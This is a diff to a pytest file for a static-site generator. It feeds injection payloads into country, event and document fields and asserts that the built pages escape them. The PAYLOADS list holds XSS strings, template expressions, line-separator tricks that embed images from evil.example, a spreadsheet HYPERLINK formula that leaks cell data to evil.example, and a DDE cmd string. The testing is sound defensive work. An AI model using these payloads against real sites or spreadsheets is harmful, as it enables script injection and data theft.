@@ -31,21 +31,25 @@ from generator.audit import audit_site
 
 from .workspace import REPO_ROOT
 
+#: A claim holding a number no quote states fails the check (claim-number-unsupported) before
+#: any page is built: payloads hold none, but for the entity, which claims get without digits.
 PAYLOADS = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    '<svg><a href="javascript:alert(1)">x</a></svg>',
-    "<details open ontoggle=alert(1)>",
+    "<script>alert(origin)</script>",
+    "<img src=x onerror=alert(origin)>",
+    '<svg><a href="javascript:alert(origin)">x</a></svg>',
+    "<details open ontoggle=alert(origin)>",
     "an unclosed <b>bold",
-    "[x](javascript:alert(1))",
-    "&#106;avascript:alert(1)",
-    "[x][1]\n\n[1]: javascript:alert(1)",
-    'Name {: onclick="alert(1)" }',
+    "[x](javascript:alert(origin))",
+    "&#106;avascript:alert(origin)",
+    "[x][a]\n\n[a]: javascript:alert(origin)",
+    'Name {: onclick="alert(origin)" }',
     "Place\n\n# Heading",
-    "{{ 7*7 }}",
+    '{{ "ab"|upper }}',
     "{% raw %}",
-    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
-    '@SUM(1+1)*cmd|" /C calc"!A0',
+    "Claim\u2028---\u2028# Heading\u2028![x](https://evil.example/x.png)",
+    "Claim\u2029\u2029![y](//evil.example/y.png)\r\n\r\n<https://evil.example/z>",
+    '=HYPERLINK("http://evil.example/?leak="&A,"click")',
+    '@SUM(A+A)*cmd|" /C calc"!A',
 ]
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 #: Its "on Monday" gives the events' date: the site shows it with the (hostile) outlet.
@@ -60,19 +64,26 @@ def code(index: int) -> str:
     return "X" + "ABCDEFGHIJKLMNOPQRSTUVWXYZ"[index]
 
 
+def one_line(text: str) -> str:
+    """A payload as a name, alias or place may hold it: line breaks are refused there."""
+    return " ".join(text.splitlines())
+
+
 def injected_facts() -> dict[str, list[dict[str, object]]]:
-    """A country, an event and a fact per payload, the payload in each of their text fields."""
+    """A country, an event and a fact per payload, the payload in each of their text fields
+    (on one line in names, aliases and places)."""
     source = {"doc": DOC, "quote": QUOTE}
     return {
         "countries": [
-            {"code": code(i), "name": text, "aliases": [text]} for i, text in enumerate(PAYLOADS)
+            {"code": code(i), "name": one_line(text), "aliases": [one_line(text)]}
+            for i, text in enumerate(PAYLOADS)
         ],
         "events": [
             {
                 "id": f"injected-{i}",
-                "name": text,
+                "name": one_line(text),
                 "date": "2014-09-15",
-                "place": text,
+                "place": one_line(text),
                 "countries": [code(i)],
                 "sources": [source],
             }
@@ -84,7 +95,7 @@ def injected_facts() -> dict[str, list[dict[str, object]]]:
                 "countries": [code(i)],
                 "event": f"injected-{i}",
                 "topic": "other",
-                "claim": text,
+                "claim": re.sub(r"[0-9]", "", text),
                 "sources": [source],
             }
             for i, text in enumerate(PAYLOADS)
@@ -94,7 +105,7 @@ def injected_facts() -> dict[str, list[dict[str, object]]]:
 
 def metadata_slots(count: int) -> list[tuple[str, str, str]]:
     """(title, outlet, author) for `count` documents, cycling through every payload."""
-    cycle = [PAYLOADS[i % len(PAYLOADS)] for i in range(3 * max(count, 4))]
+    cycle = [one_line(PAYLOADS[i % len(PAYLOADS)]) for i in range(3 * max(count, 4))]
     return [(cycle[3 * i], cycle[3 * i + 1], cycle[3 * i + 2]) for i in range(count)]
 
 
@@ -148,7 +159,7 @@ def injected_site(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[
     shutil.copytree(REPO_ROOT / "docs", root / "docs")
     shutil.copy(REPO_ROOT / "mkdocs.yml", root / "mkdocs.yml")
     (root / "facts").mkdir()
-    facts = json.dumps(injected_facts(), ensure_ascii=False, indent=1)
+    facts = json.dumps(injected_facts(), ensure_ascii=True, indent=1)  # LS would end a line
     (root / "facts" / "injected.yml").write_text(facts + "\n", encoding="utf-8")
     sources = write_sources(root / "corpus")
     command = [sys.executable, "-m", "mkdocs", "build", "--strict", "-d", str(root / "site")]
@@ -212,7 +223,8 @@ def test_no_payload_became_markup(injected_site: tuple[Path, dict[str, object]])
         assert "<details open ontoggle" not in html
         assert "<b>bold" not in html
         assert not re.search(r"<h1[^>]*>\s*Heading", html)
-        assert ">49<" not in html
+        assert not re.search(r"<[a-z]+\b[^>]*(?:src|href)=\"[^\"]*evil\.example", html)
+        assert ">AB<" not in html
 
 
 class _QuietHandler(SimpleHTTPRequestHandler):
